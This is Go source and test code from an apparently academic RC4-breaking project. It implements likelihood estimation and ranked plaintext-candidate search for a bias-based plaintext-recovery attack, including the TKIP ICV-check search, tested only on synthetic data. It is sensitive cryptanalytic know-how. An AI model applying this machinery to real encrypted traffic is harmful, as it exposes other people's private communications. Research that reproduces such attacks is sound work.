		for i := 0; i < K; i++ {
			if math.Abs(cands[i].Score-all[i]) > 1e-9 {
				t.Fatalf("trial %d rank %d: score %v, exhaustive %v", trial, i, cands[i].Score, all[i])
			}
		}
	}
}

// TestDoubleByteRequestMoreThanSpace asks for more candidates than exist;
// the list must contain exactly the whole space, still sorted.
func TestDoubleByteRequestMoreThanSpace(t *testing.T) {
	charset := []byte{'x', 'y'}
	lks := make([]*PairLikelihoods, 3) // length 4: m1 + 2 interior + mL
	rng := rand.New(rand.NewSource(5))
	for i := range lks {
		lks[i] = new(PairLikelihoods)
		for j := range lks[i] {
			lks[i][j] = rng.NormFloat64()
		}
	}
	cands, err := DoubleByteCandidates(lks, 'x', 'y', 1000, charset)
	if err != nil {
		t.Fatal(err)
	}
	if len(cands) != 4 { // 2^2 interiors
		t.Fatalf("%d candidates, want 4", len(cands))
	}
	seen := map[string]bool{}
	for i, c := range cands {
		if seen[string(c.Plaintext)] {
			t.Fatalf("duplicate %q", c.Plaintext)
		}
		seen[string(c.Plaintext)] = true
		if i > 0 && c.Score > cands[i-1].Score+1e-12 {
			t.Fatal("not sorted")
		}
	}
}

// TestEnumeratorDeepWalkNoDuplicates walks deep into a full 256-value
// space and checks uniqueness and monotonicity.
func TestEnumeratorDeepWalkNoDuplicates(t *testing.T) {
	rng := rand.New(rand.NewSource(6))
	lks := make([]*ByteLikelihoods, 3)
	for r := range lks {
		var l ByteLikelihoods
		for v := range l {
			l[v] = rng.NormFloat64()
		}
		lks[r] = &l
	}
	e, err := NewSingleByteEnumerator(lks)
	if err != nil {
		t.Fatal(err)
	}
	seen := make(map[string]bool, 1<<15)
	prev := math.Inf(1)
	for i := 0; i < 1<<15; i++ {
		c, ok := e.Next()
		if !ok {
			t.Fatalf("exhausted at %d of 2^24 space", i)
		}
		if c.Score > prev+1e-9 {
			t.Fatalf("score rose at %d: %v -> %v", i, prev, c.Score)
		}
		prev = c.Score
		k := string(c.Plaintext)
		if seen[k] {
			t.Fatalf("duplicate at %d: %x", i, c.Plaintext)
		}
		seen[k] = true
	}
}

// TestSearchAcceptsFirst confirms SearchSingleByte stops at depth 1 when
// the best candidate is accepted.
func TestSearchAcceptsFirst(t *testing.T) {
	var l ByteLikelihoods
	l[9] = 10
	_, depth, err := SearchSingleByte([]*ByteLikelihoods{&l}, func(pt []byte) bool {
		return pt[0] == 9
	}, 0)
	if err != nil || depth != 1 {
		t.Fatalf("depth %d err %v", depth, err)
	}
}
