package recovery

import (
	"bytes"
	"math"
	"math/rand"
	"testing"

	"rc4break/internal/biases"
)

// sampleCiphertexts encrypts the plaintext byte pt many times with keystream
// bytes drawn from dist, returning the ciphertext histogram.
func sampleCiphertexts(t *testing.T, pt byte, dist []float64, n int, seed int64) *[256]uint64 {
	t.Helper()
	s := biases.NewSampler(dist)
	rng := rand.New(rand.NewSource(seed))
	var counts [256]uint64
	for i := 0; i < n; i++ {
		z := byte(s.Draw(rng))
		counts[z^pt]++
	}
	return &counts
}

// skewedDist is a single-byte distribution with a strong positive bias on
// value 0 and a weaker one on value 77 — a caricature of the §5.1 per-TSC
// distributions, strong enough to resolve with few samples.
func skewedDist() []float64 {
	d := make([]float64, 256)
	for i := range d {
		d[i] = 1.0 / 256
	}
	d[0] *= 1.5
	d[77] *= 1.2
	var sum float64
	for _, p := range d {
		sum += p
	}
	for i := range d {
		d[i] /= sum
	}
	return d
}

func TestSingleByteLikelihoodsRecovery(t *testing.T) {
	dist := skewedDist()
	const truth = byte('S')
	counts := sampleCiphertexts(t, truth, dist, 1<<16, 1)
	l, err := SingleByteLikelihoods(counts, dist)
	if err != nil {
		t.Fatal(err)
	}
	if got := l.Best(); got != truth {
		t.Errorf("recovered %q, want %q", got, truth)
	}
}

func TestSingleByteLikelihoodsErrors(t *testing.T) {
	var counts [256]uint64
	if _, err := SingleByteLikelihoods(&counts, make([]float64, 255)); err == nil {
		t.Error("short distribution accepted")
	}
	bad := make([]float64, 256)
	if _, err := SingleByteLikelihoods(&counts, bad); err == nil {
		t.Error("zero-probability distribution accepted")
	}
}

func TestSingleByteLikelihoodsUniformIsFlat(t *testing.T) {
	// Under a uniform keystream model, all plaintexts are equally likely:
	// the likelihood table must be constant.
	uniform := make([]float64, 256)
	for i := range uniform {
		uniform[i] = 1.0 / 256
	}
	var counts [256]uint64
	for i := range counts {
		counts[i] = uint64(i * i) // arbitrary
	}
	l, err := SingleByteLikelihoods(&counts, uniform)
	if err != nil {
		t.Fatal(err)
	}
	for mu := 1; mu < 256; mu++ {
		if math.Abs(l[mu]-l[0]) > 1e-6 {
			t.Fatalf("uniform model should give flat likelihood: l[%d]-l[0] = %v", mu, l[mu]-l[0])
		}
	}
}

// samplePairHistogram encrypts the plaintext pair many times with digraphs
// drawn from the FM distribution at counter i, returning the ciphertext
// digraph histogram.
func samplePairHistogram(pt1, pt2 byte, i, n int, seed int64) []uint64 {
	s := biases.FMSampler(i)
	rng := rand.New(rand.NewSource(seed))
	hist := make([]uint64, 65536)
	for j := 0; j < n; j++ {
		v := s.Draw(rng)
		z1, z2 := byte(v>>8), byte(v&0xff)
		hist[int(z1^pt1)*256+int(z2^pt2)]++
	}
	return hist
}

func TestSparseMatchesNaive(t *testing.T) {
	// The eq. 15 optimization must rank identically to the full eq. 13
	// computation (scores differ only by a constant).
	const i = 5
	hist := samplePairHistogram('a', 'b', i, 1<<16, 3)
	naive, err := PairLikelihoodsNaive(hist, biases.FMDistribution(i))
	if err != nil {
		t.Fatal(err)
	}
	sparse, err := FMPairLikelihoods(hist, i)
	if err != nil {
		t.Fatal(err)
	}
	// Compare differences against a reference cell; they must agree to
	// floating-point tolerance (the dropped constant cancels). The naive
	// path uses the normalized distribution, so allow a small tolerance.
	ref := 0
	for idx := 1; idx < 65536; idx += 257 {
		dn := naive[idx] - naive[ref]
		ds := sparse[idx] - sparse[ref]
		if math.Abs(dn-ds) > 1e-3*(1+math.Abs(dn)) {
			t.Fatalf("idx %d: naive Δ=%v sparse Δ=%v", idx, dn, ds)
		}
	}
	n1, n2 := naive.Best()
	s1, s2 := sparse.Best()
	if n1 != s1 || n2 != s2 {
		t.Fatalf("best candidates differ: naive (%d,%d) sparse (%d,%d)", n1, n2, s1, s2)
	}
}

func TestSparsePairLikelihoodRecoversAmplified(t *testing.T) {
	// True FM biases need ~2^34 ciphertexts (Fig. 7) — out of unit-test
	// range — so validate the sparse-likelihood machinery on an FM-shaped
	// distribution with amplified cells: same code path, resolvable signal.
	cells := []BiasedCell{
		{K1: 0, K2: 0, P: 2 * biases.UPair},
		{K1: 0, K2: 6, P: 0.5 * biases.UPair},
		{K1: 255, K2: 255, P: 1.5 * biases.UPair},
	}
	dist := make([]float64, 65536)
	for i := range dist {
		dist[i] = biases.UPair
	}
	for _, c := range cells {
		dist[int(c.K1)*256+int(c.K2)] = c.P
	}
	s := biases.NewSampler(dist)
	rng := rand.New(rand.NewSource(4))
	const truth1, truth2 = 'O', 'K'
	hist := make([]uint64, 65536)
	const n = 1 << 22
	for j := 0; j < n; j++ {
		v := s.Draw(rng)
		hist[(int(v>>8)^truth1)*256+(int(v&0xff)^truth2)]++
	}
	lk, err := PairLikelihoodsSparse(hist, cells, biases.UPair)
	if err != nil {
		t.Fatal(err)
	}
	m1, m2 := lk.Best()
	if m1 != truth1 || m2 != truth2 {
		t.Errorf("recovered (%q,%q), want (%q,%q)", m1, m2, truth1, truth2)
	}
}

func TestPairLikelihoodErrors(t *testing.T) {
	if _, err := PairLikelihoodsNaive(make([]uint64, 10), make([]float64, 65536)); err == nil {
		t.Error("short histogram accepted")
	}
	if _, err := PairLikelihoodsNaive(make([]uint64, 65536), make([]float64, 65536)); err == nil {
		t.Error("zero distribution accepted")
	}
	if _, err := PairLikelihoodsSparse(make([]uint64, 3), nil, biases.UPair); err == nil {
		t.Error("short histogram accepted")
	}
	if _, err := PairLikelihoodsSparse(make([]uint64, 65536), nil, 0); err == nil {
		t.Error("zero uniform accepted")
	}
	if _, err := PairLikelihoodsSparse(make([]uint64, 65536), []BiasedCell{{P: -1}}, biases.UPair); err == nil {
		t.Error("negative cell accepted")
	}
	if _, err := ABSABPairLikelihoods(make([]uint64, 3), 0, 0, 0); err == nil {
		t.Error("short differential histogram accepted")
	}
	if _, err := ABSABPairLikelihoods(make([]uint64, 65536), -1, 0, 0); err == nil {
		t.Error("negative gap accepted")
	}
}

func TestABSABLikelihoodRecovery(t *testing.T) {
	// Generative model of §4.2: the unknown pair sits at (r, r+1); a known
	// pair (k1,k2) sits g bytes later. With probability β(g) the keystream
	// digraphs coincide, making the ciphertext differential equal the
	// plaintext differential. We amplify β to keep the test fast; the
	// likelihood machinery itself is linear in the evidence either way.
	const gap = 2
	const truth1, truth2 = 'n', 'o'
	const known1, known2 = 'X', 'Y'
	rng := rand.New(rand.NewSource(5))
	hist := make([]uint64, 65536)
	beta := 0.01
	const n = 1 << 20
	for j := 0; j < n; j++ {
		var d1, d2 byte
		if rng.Float64() < beta {
			d1, d2 = 0, 0 // keystream digraph repeats: Ẑ = (0,0)
		} else {
			v := rng.Intn(65536)
			d1, d2 = byte(v>>8), byte(v&0xff)
		}
		// Ĉ = Ẑ ⊕ P̂ with P̂ = (truth ⊕ known).
		c1 := d1 ^ truth1 ^ known1
		c2 := d2 ^ truth2 ^ known2
		hist[int(c1)*256+int(c2)]++
	}
	lk, err := ABSABPairLikelihoods(hist, gap, known1, known2)
	if err != nil {
		t.Fatal(err)
	}
	m1, m2 := lk.Best()
	if m1 != truth1 || m2 != truth2 {
		t.Errorf("recovered (%q,%q), want (%q,%q)", m1, m2, truth1, truth2)
	}
}

func TestCombineLikelihoods(t *testing.T) {
	// Eq. 25: summing two weakly informative tables must beat each alone.
	// Construct two tables each mildly favoring the truth plus noise.
	rng := rand.New(rand.NewSource(6))
	const truth = 0x1234
	mk := func() *PairLikelihoods {
		var p PairLikelihoods
		for i := range p {
			p[i] = rng.NormFloat64()
		}
		p[truth] += 2.5 // weak signal, below the max of 65536 N(0,1) draws
		return &p
	}
	a, b, c := mk(), mk(), mk()
	combined := new(PairLikelihoods)
	combined.Add(a)
	combined.Add(b)
	combined.Add(c)
	m1, m2 := combined.Best()
	if int(m1)*256+int(m2) != truth {
		t.Errorf("combination failed to amplify the truth: got (%d,%d)", m1, m2)
	}
}

func TestAddByte(t *testing.T) {
	var p PairLikelihoods
	var l ByteLikelihoods
	l[7] = 5
	p.AddByte(&l, 0)
	if p.At(7, 3) != 5 || p.At(3, 7) != 0 {
		t.Error("AddByte(which=0) wrong")
	}
	var p2 PairLikelihoods
	p2.AddByte(&l, 1)
	if p2.At(3, 7) != 5 || p2.At(7, 3) != 0 {
		t.Error("AddByte(which=1) wrong")
	}
}

func TestSingleByteEnumeratorOrderAndCompleteness(t *testing.T) {
	// Two positions with known likelihoods: enumeration must be in strictly
	// non-increasing score order and must not repeat candidates.
	mk := func(vals map[byte]float64) *ByteLikelihoods {
		var l ByteLikelihoods
		for i := range l {
			l[i] = -100
		}
		for v, s := range vals {
			l[v] = s
		}
		return &l
	}
	l1 := mk(map[byte]float64{'a': 0, 'b': -1, 'c': -3.5})
	l2 := mk(map[byte]float64{'x': 0, 'y': -2})
	e, err := NewSingleByteEnumerator([]*ByteLikelihoods{l1, l2})
	if err != nil {
		t.Fatal(err)
	}
	// Scores: ax=0, bx=-1, ay=-2, by=-3, cx=-3.5, cy=-5.5 (no ties).
	wantOrder := []string{"ax", "bx", "ay", "by", "cx", "cy"}
	prev := math.Inf(1)
	seen := map[string]bool{}
	for i := 0; i < len(wantOrder); i++ {
		c, ok := e.Next()
		if !ok {
			t.Fatalf("exhausted after %d", i)
		}
		if c.Score > prev+1e-12 {
			t.Fatalf("score increased at %d", i)
		}
		prev = c.Score
		s := string(c.Plaintext)
		if seen[s] {
			t.Fatalf("duplicate candidate %q", s)
		}
		seen[s] = true
		if s != wantOrder[i] {
			t.Fatalf("candidate %d = %q, want %q", i, s, wantOrder[i])
		}
	}
}

func TestSingleByteEnumeratorExhaustsSpace(t *testing.T) {
	// One position: exactly 256 candidates, all distinct.
	var l ByteLikelihoods
	for i := range l {
		l[i] = float64(-i)
	}
	e, err := NewSingleByteEnumerator([]*ByteLikelihoods{&l})
	if err != nil {
		t.Fatal(err)
	}
	count := 0
	for {
		_, ok := e.Next()
		if !ok {
			break
		}
		count++
	}
	if count != 256 {
		t.Fatalf("enumerated %d candidates, want 256", count)
	}
}

func TestSingleByteCandidates(t *testing.T) {
	var l ByteLikelihoods
	for i := range l {
		l[i] = float64(-i)
	}
	cands, err := SingleByteCandidates([]*ByteLikelihoods{&l, &l}, 10)
	if err != nil {
		t.Fatal(err)
	}
	if len(cands) != 10 {
		t.Fatalf("got %d candidates", len(cands))
	}
	if !bytes.Equal(cands[0].Plaintext, []byte{0, 0}) {
		t.Errorf("best candidate %v", cands[0].Plaintext)
	}
	for i := 1; i < len(cands); i++ {
		if cands[i].Score > cands[i-1].Score {
			t.Fatal("candidates not in decreasing order")
		}
	}
	if _, err := SingleByteCandidates(nil, 5); err == nil {
		t.Error("no positions accepted")
	}
	if _, err := SingleByteCandidates([]*ByteLikelihoods{&l}, 0); err == nil {
		t.Error("n=0 accepted")
	}
}

func TestSearchSingleByte(t *testing.T) {
	var l ByteLikelihoods
	for i := range l {
		l[i] = float64(-i)
	}
	target := []byte{2, 1}
	c, depth, err := SearchSingleByte([]*ByteLikelihoods{&l, &l}, func(pt []byte) bool {
		return bytes.Equal(pt, target)
	}, 0)
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(c.Plaintext, target) {
		t.Errorf("found %v", c.Plaintext)
	}
	if depth < 2 {
		t.Errorf("depth %d too shallow", depth)
	}
	// maxDepth bound respected.
	if _, _, err := SearchSingleByte([]*ByteLikelihoods{&l, &l}, func(pt []byte) bool {
		return bytes.Equal(pt, []byte{255, 255})
	}, 3); err == nil {
		t.Error("depth bound ignored")
	}
}

func TestDoubleByteCandidatesViterbi(t *testing.T) {
	// Construct a 4-byte plaintext "A??Z" with pair likelihoods that
	// uniquely favor "AbcZ", and verify ordering.
	L := 4
	lks := make([]*PairLikelihoods, L-1)
	for i := range lks {
		lks[i] = new(PairLikelihoods)
		for j := range lks[i] {
			lks[i][j] = -10
		}
	}
	set := func(r int, a, b byte, v float64) { lks[r][int(a)*256+int(b)] = v }
	set(0, 'A', 'b', 0)
	set(0, 'A', 'x', -1)
	set(1, 'b', 'c', 0)
	set(1, 'x', 'c', -0.5)
	set(2, 'c', 'Z', 0)
	cands, err := DoubleByteCandidates(lks, 'A', 'Z', 3, nil)
	if err != nil {
		t.Fatal(err)
	}
	if string(cands[0].Plaintext) != "AbcZ" {
		t.Fatalf("best = %q", cands[0].Plaintext)
	}
	if string(cands[1].Plaintext) != "AxcZ" {
		t.Fatalf("second = %q", cands[1].Plaintext)
	}
	for i := 1; i < len(cands); i++ {
		if cands[i].Score > cands[i-1].Score+1e-12 {
			t.Fatal("not in decreasing order")
		}
	}
	// Scores must equal the chain sum.
	for _, c := range cands {
		if math.Abs(ScoreSequence(lks, c.Plaintext)-c.Score) > 1e-9 {
			t.Fatalf("score mismatch for %q", c.Plaintext)
		}
	}
}

func TestDoubleByteCandidatesExactTopN(t *testing.T) {
	// Brute-force cross-check on a small charset: the N-best list must
	// exactly match the sorted enumeration of all candidates.
	charset := []byte{'a', 'b', 'c', 'd'}
	rng := rand.New(rand.NewSource(8))
	L := 5
	lks := make([]*PairLikelihoods, L-1)
	for i := range lks {
		lks[i] = new(PairLikelihoods)
		for j := range lks[i] {
			lks[i][j] = rng.NormFloat64()
		}
	}
	const m1, mL = 'a', 'd'
	cands, err := DoubleByteCandidates(lks, m1, mL, 20, charset)
	if err != nil {
		t.Fatal(err)
	}
	// Enumerate all 4^3 = 64 interiors.
	type sc struct {
		pt    string
		score float64
	}
	var all []sc
	for _, b2 := range charset {
		for _, b3 := range charset {
			for _, b4 := range charset {
				pt := []byte{m1, b2, b3, b4, mL}
				all = append(all, sc{string(pt), ScoreSequence(lks, pt)})
			}
		}
	}
	for i := 0; i < len(all); i++ {
		for j := i + 1; j < len(all); j++ {
			if all[j].score > all[i].score {
				all[i], all[j] = all[j], all[i]
			}
		}
	}
	if len(cands) != 20 {
		t.Fatalf("got %d candidates", len(cands))
	}
	for i, c := range cands {
		if math.Abs(c.Score-all[i].score) > 1e-9 {
			t.Fatalf("rank %d: score %v, brute-force %v (%q vs %q)",
				i, c.Score, all[i].score, c.Plaintext, all[i].pt)
		}
	}
}

func TestDoubleByteCandidatesCharsetRestriction(t *testing.T) {
	lks := make([]*PairLikelihoods, 2)
	for i := range lks {
		lks[i] = new(PairLikelihoods)
	}
	charset := []byte("0123456789")
	cands, err := DoubleByteCandidates(lks, 'G', 'H', 50, charset)
	if err != nil {
		t.Fatal(err)
	}
	if len(cands) != 10 {
		t.Fatalf("got %d candidates, want 10 (charset size)", len(cands))
	}
	for _, c := range cands {
		if c.Plaintext[0] != 'G' || c.Plaintext[2] != 'H' {
			t.Fatal("anchors not preserved")
		}
		if !bytes.ContainsRune(charset, rune(c.Plaintext[1])) {
			t.Fatalf("interior byte %q outside charset", c.Plaintext[1])
		}
	}
}

func TestDoubleByteCandidatesErrors(t *testing.T) {
	lks := []*PairLikelihoods{new(PairLikelihoods)}
	if _, err := DoubleByteCandidates(lks, 0, 0, 0, nil); err == nil {
		t.Error("n=0 accepted")
	}
	if _, err := DoubleByteCandidates(nil, 0, 0, 1, nil); err == nil {
		t.Error("empty chain accepted")
	}
	if _, err := DoubleByteCandidates(lks, 0, 0, 1, nil); err == nil {
		t.Error("chain with no unknown byte accepted")
	}
	lks2 := []*PairLikelihoods{new(PairLikelihoods), new(PairLikelihoods)}
	if _, err := DoubleByteCandidates(lks2, 0, 0, 1, []byte{}); err == nil {
		t.Error("empty charset accepted")
	}
}

func TestScoreSequenceLengthMismatch(t *testing.T) {
	lks := []*PairLikelihoods{new(PairLikelihoods)}
	if s := ScoreSequence(lks, []byte{1, 2, 3}); !math.IsInf(s, -1) {
		t.Error("length mismatch should score -Inf")
	}
}

func BenchmarkSparseLikelihoods(b *testing.B) {
	hist := samplePairHistogram('a', 'b', 5, 1<<16, 3)
	b.ResetTimer()
	for n := 0; n < b.N; n++ {
		if _, err := FMPairLikelihoods(hist, 5); err != nil {
			b.Fatal(err)
		}
	}
}

func BenchmarkNaiveLikelihoods(b *testing.B) {
	hist := samplePairHistogram('a', 'b', 5, 1<<16, 3)
	dist := biases.FMDistribution(5)
	b.ResetTimer()
	for n := 0; n < b.N; n++ {
		if _, err := PairLikelihoodsNaive(hist, dist); err != nil {
			b.Fatal(err)
		}
	}
}

func BenchmarkDoubleByteCandidates(b *testing.B) {
	rng := rand.New(rand.NewSource(9))
	lks := make([]*PairLikelihoods, 17)
	for i := range lks {
		lks[i] = new(PairLikelihoods)
		for j := range lks[i] {
			lks[i][j] = rng.NormFloat64()
		}
	}
	charset := []byte("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/")
	b.ResetTimer()
	for n := 0; n < b.N; n++ {
		if _, err := DoubleByteCandidates(lks, '=', ';', 256, charset); err != nil {
			b.Fatal(err)
		}
	}
}
