// Package recovery implements the paper's §4 plaintext-recovery machinery:
// Bayesian likelihood estimation from ciphertext statistics (single-byte,
// double-byte, and ABSAB-differential), combination of multiple bias types,
// and generation of plaintext candidate lists in decreasing likelihood
// (Algorithm 1 for single-byte likelihoods, Algorithm 2 — a list-Viterbi —
// for double-byte likelihoods).
//
// All likelihoods are kept in log space for numeric stability, as §4.4
// recommends; only likelihood *ratios* matter for ranking, so constant
// additive terms are dropped freely.
package recovery

import (
	"errors"
	"math"

	"rc4break/internal/biases"
)

// ByteLikelihoods holds log-likelihoods for a single plaintext byte:
// L[µ] ~ log Pr[C | P = µ] (eq. 11/12).
type ByteLikelihoods [256]float64

// PairLikelihoods holds log-likelihoods for a plaintext byte pair:
// L[µ1*256+µ2] ~ log Pr[C | P = (µ1,µ2)] (eq. 13).
type PairLikelihoods [65536]float64

// At returns the log-likelihood of the pair (µ1, µ2).
func (p *PairLikelihoods) At(mu1, mu2 byte) float64 {
	return p[int(mu1)*256+int(mu2)]
}

// Add combines another likelihood table into this one — the eq. 25 product
// of likelihoods, a sum in log space.
func (p *PairLikelihoods) Add(other *PairLikelihoods) {
	for i, v := range other {
		p[i] += v
	}
}

// Best returns the most likely pair.
func (p *PairLikelihoods) Best() (mu1, mu2 byte) {
	best := math.Inf(-1)
	var bi int
	for i, v := range p {
		if v > best {
			best = v
			bi = i
		}
	}
	return byte(bi >> 8), byte(bi & 0xff)
}

// AddByte folds single-byte log-likelihoods for one half of the pair into
// the table (which = 0 for µ1, 1 for µ2) — how single-byte and double-byte
// evidence are combined under eq. 25.
func (p *PairLikelihoods) AddByte(l *ByteLikelihoods, which int) {
	if which == 0 {
		for m1 := 0; m1 < 256; m1++ {
			v := l[m1]
			row := p[m1*256 : m1*256+256]
			for m2 := range row {
				row[m2] += v
			}
		}
		return
	}
	for m1 := 0; m1 < 256; m1++ {
		row := p[m1*256 : m1*256+256]
		for m2 := range row {
			row[m2] += l[m2]
		}
	}
}

// Best returns the most likely byte.
func (l *ByteLikelihoods) Best() byte {
	best := math.Inf(-1)
	var bi int
	for i, v := range l {
		if v > best {
			best = v
			bi = i
		}
	}
	return byte(bi)
}

// SingleByteLikelihoods computes eq. 11/12 for one plaintext byte position:
// given counts[c] of each observed ciphertext byte value and the keystream
// distribution dist[k] = Pr[Z = k] at that position, it returns
// L[µ] = Σ_c counts[c] · log dist[c ⊕ µ] — the log-probability of the
// induced keystream distribution N^µ (eq. 10) under the model.
func SingleByteLikelihoods(counts *[256]uint64, dist []float64) (*ByteLikelihoods, error) {
	logp, err := LogDistribution(dist)
	if err != nil {
		return nil, err
	}
	out := new(ByteLikelihoods)
	SingleByteLikelihoodsFromLog(out, counts[:], logp)
	return out, nil
}

// LogDistribution validates a 256-entry probability vector and returns its
// element-wise logarithm. Likelihood passes that repeat over growing
// evidence (the online runtime decodes at every cadence point) compute this
// once per distribution and reuse it via SingleByteLikelihoodsFromLog; the
// model distributions never change mid-attack.
func LogDistribution(dist []float64) (*[256]float64, error) {
	if len(dist) != 256 {
		return nil, errors.New("recovery: keystream distribution must have 256 entries")
	}
	logp := new([256]float64)
	for k, p := range dist {
		if p <= 0 {
			return nil, errors.New("recovery: keystream distribution has non-positive entry")
		}
		logp[k] = math.Log(p)
	}
	return logp, nil
}

// SingleByteLikelihoodsFromLog accumulates eq. 11/12 into out (adding to
// whatever out already holds — callers combining per-class evidence under
// eq. 25 sum in place) from raw counts and a precomputed log distribution.
// counts must have 256 entries.
//
// The kernel runs four µ values per pass of the count row: each µ keeps its
// own accumulator summing in the same c order as the scalar loop, so every
// output is bitwise identical to the scalar result — including zero-count
// terms, whose ±0 contribution is an additive identity for every reachable
// partial sum (partial sums are +0 or negative, logp being ≤ 0) — while the
// four independent chains hide the floating-point add latency the scalar
// loop serializes on.
func SingleByteLikelihoodsFromLog(out *ByteLikelihoods, counts []uint64, logp *[256]float64) {
	counts = counts[:256]
	for mu := 0; mu < 256; mu += 4 {
		var s0, s1, s2, s3 float64
		for c, cnt := range counts {
			n := float64(cnt)
			k := (c ^ mu) & 255
			// µ+1..µ+3 differ from µ only in the low two bits, so their
			// indices are k^1, k^2, k^3 — the same aligned 4-group of logp.
			s0 += n * logp[k]
			s1 += n * logp[k^1]
			s2 += n * logp[k^2]
			s3 += n * logp[k^3]
		}
		out[mu] += s0
		out[mu+1] += s1
		out[mu+2] += s2
		out[mu+3] += s3
	}
}

// PairLikelihoodsNaive computes the full eq. 13 double-byte likelihood:
// hist[c1*256+c2] counts observed ciphertext digraphs, dist is the full
// 65536-cell keystream digraph distribution. O(2^32) work — kept as the
// reference implementation and as the ablation baseline for eq. 15.
func PairLikelihoodsNaive(hist []uint64, dist []float64) (*PairLikelihoods, error) {
	if len(hist) != 65536 || len(dist) != 65536 {
		return nil, errors.New("recovery: histogram and distribution must have 65536 entries")
	}
	logp := make([]float64, 65536)
	for k, p := range dist {
		if p <= 0 {
			return nil, errors.New("recovery: digraph distribution has non-positive entry")
		}
		logp[k] = math.Log(p)
	}
	out := new(PairLikelihoods)
	for mu1 := 0; mu1 < 256; mu1++ {
		for mu2 := 0; mu2 < 256; mu2++ {
			var sum float64
			for c1 := 0; c1 < 256; c1++ {
				row := hist[c1*256 : c1*256+256]
				lrow := logp[(c1^mu1)*256 : (c1^mu1)*256+256]
				for c2, n := range row {
					if n != 0 {
						sum += float64(n) * lrow[c2^mu2]
					}
				}
			}
			out[mu1*256+mu2] = sum
		}
	}
	return out, nil
}

// BiasedCell is one dependent digraph cell for the eq. 15 optimized
// likelihood: keystream pair (K1, K2) occurs with probability P; all other
// cells are modeled uniform.
type BiasedCell struct {
	K1, K2 byte
	P      float64
}

// PairLikelihoodsSparse computes the eq. 15 optimized double-byte
// likelihood: only the biased cells contribute beyond a constant, so
//
//	log λ(µ1,µ2) = Σ_cells N_cell · (log p_cell - log u) + |C| log u
//
// and the constant |C| log u is dropped. With |cells| ≈ 10 this is the
// paper's "roughly 2^19 operations instead of 2^32".
func PairLikelihoodsSparse(hist []uint64, cells []BiasedCell, u float64) (*PairLikelihoods, error) {
	out := new(PairLikelihoods)
	if err := PairLikelihoodsSparseInto(out, hist, cells, u); err != nil {
		return nil, err
	}
	return out, nil
}

// PairLikelihoodsSparseInto is PairLikelihoodsSparse writing into a
// caller-owned table (overwritten, not accumulated) — the allocation-free
// form for repeated decodes over growing evidence. Each 65536-cell table is
// half a megabyte; the online runtime recomputes one per chain link at
// every cadence point, so the tables must be reused, not reallocated.
func PairLikelihoodsSparseInto(out *PairLikelihoods, hist []uint64, cells []BiasedCell, u float64) error {
	if len(hist) != 65536 {
		return errors.New("recovery: histogram must have 65536 entries")
	}
	if u <= 0 {
		return errors.New("recovery: non-positive uniform probability")
	}
	logu := math.Log(u)
	*out = PairLikelihoods{}
	for _, cell := range cells {
		if cell.P <= 0 {
			return errors.New("recovery: non-positive cell probability")
		}
		w := math.Log(cell.P) - logu
		for mu1 := 0; mu1 < 256; mu1++ {
			c1 := int(cell.K1) ^ mu1
			row := hist[c1*256 : c1*256+256]
			orow := out[mu1*256 : mu1*256+256]
			k2 := int(cell.K2)
			for mu2 := 0; mu2 < 256; mu2++ {
				if n := row[k2^mu2]; n != 0 {
					orow[mu2] += float64(n) * w
				}
			}
		}
	}
	return nil
}

// FMPairLikelihoods computes the double-byte likelihood at PRGA counter i
// using the long-term Fluhrer–McGrew model via the sparse eq. 15 path.
func FMPairLikelihoods(hist []uint64, i int) (*PairLikelihoods, error) {
	out := new(PairLikelihoods)
	if err := FMPairLikelihoodsInto(out, hist, i); err != nil {
		return nil, err
	}
	return out, nil
}

// FMPairLikelihoodsInto is FMPairLikelihoods into a caller-owned table.
func FMPairLikelihoodsInto(out *PairLikelihoods, hist []uint64, i int) error {
	fm := biases.FMCells(i)
	cells := make([]BiasedCell, len(fm))
	for n, c := range fm {
		cells[n] = BiasedCell{K1: c.X, K2: c.Y, P: c.P}
	}
	return PairLikelihoodsSparseInto(out, hist, cells, biases.UPair)
}

// ABSABPairLikelihoods computes eq. 17–24: the likelihood of the plaintext
// pair (µ1, µ2) from Mantin's ABSAB bias at one gap. hist counts observed
// ciphertext differentials Ĉ = (C_r ⊕ C_{r+2+g}, C_{r+1} ⊕ C_{r+3+g}),
// known1/known2 are the known plaintext bytes at the far end of the gap,
// and gap is g. Only the (0,0) differential cell is biased (probability
// α(g)), so eq. 22 collapses the likelihood to a function of the count of
// ciphertext differentials equal to each candidate differential:
//
//	log λ(µ̂) = |µ̂| · [log α - log((1-α)/(2^16-1))] + const.
func ABSABPairLikelihoods(hist []uint64, gap int, known1, known2 byte) (*PairLikelihoods, error) {
	if len(hist) != 65536 {
		return nil, errors.New("recovery: histogram must have 65536 entries")
	}
	if gap < 0 {
		return nil, errors.New("recovery: negative gap")
	}
	w := ABSABWeight(gap)
	out := new(PairLikelihoods)
	for mu1 := 0; mu1 < 256; mu1++ {
		d1 := mu1 ^ int(known1)
		row := hist[d1*256 : d1*256+256]
		orow := out[mu1*256 : mu1*256+256]
		k2 := int(known2)
		for mu2 := 0; mu2 < 256; mu2++ {
			if n := row[mu2^k2]; n != 0 {
				orow[mu2] = float64(n) * w
			}
		}
	}
	return out, nil
}

// ABSABWeight is the per-observation log-likelihood increment of one
// ciphertext differential matching a candidate differential at gap g:
// log α(g) − log((1−α(g))/(2^16−1)). Collectors that fold ABSAB evidence
// incrementally (one add per observed differential) use this weight; the
// result is identical to histogramming followed by ABSABPairLikelihoods.
func ABSABWeight(gap int) float64 {
	a := biases.ABSABAlpha(gap)
	return math.Log(a) - math.Log((1-a)/65535)
}
