package recovery

import (
	"container/heap"
	"errors"
	"math"
	"sort"
)

// Candidate is one plaintext guess with its log-likelihood score.
type Candidate struct {
	Plaintext []byte
	Score     float64
}

// SingleByteEnumerator lazily yields plaintext candidates in decreasing
// likelihood from per-position single-byte log-likelihoods — the role of
// the paper's Algorithm 1. Where Algorithm 1 materializes the N best
// candidates length by length, this enumerator performs a best-first walk
// of the rank lattice, which yields exactly the same order but lets callers
// walk arbitrarily deep lists without choosing N up front. That is what the
// TKIP attack needs: it traverses candidates until one passes the ICV check
// (§5.3, Figures 8 and 9), and the stopping depth is not known in advance.
type SingleByteEnumerator struct {
	// sortedVals[r][rank] is the plaintext byte with the rank-th highest
	// likelihood at position r; sortedScores[r][rank] its log-likelihood.
	sortedVals   [][]byte
	sortedScores [][]float64
	queue        candidateHeap
	seenGuard    map[string]struct{}
}

type heapNode struct {
	score float64
	ranks []uint8 // rank per position into sortedVals
